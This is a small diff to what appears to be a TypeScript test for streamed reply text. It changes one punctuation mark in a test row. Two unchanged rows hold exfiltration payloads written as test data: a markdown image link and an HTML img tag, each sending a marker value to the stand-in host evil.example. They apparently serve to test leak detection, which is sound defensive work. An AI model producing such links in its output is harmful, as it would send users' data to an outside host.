@@ -113,7 +113,7 @@ test('the id of a reply is heard, streamed and whole', () => {
 
 test('texts that are shown in a row are read as one', () => {
   const rows: [first: string, second: string, back: boolean][] = [
-    ['Well:', ` it is ${MARK}.`, true],
+    ['Well,', ` it is ${MARK}.`, true],
     ['', `${MARK}.`, true],
     ['![x](https:&sol;&sol;evil.example&sol;', `${MARK})`, false],
     ['<img src="https://evil.example/?a=', `${MARK} ">`, false],
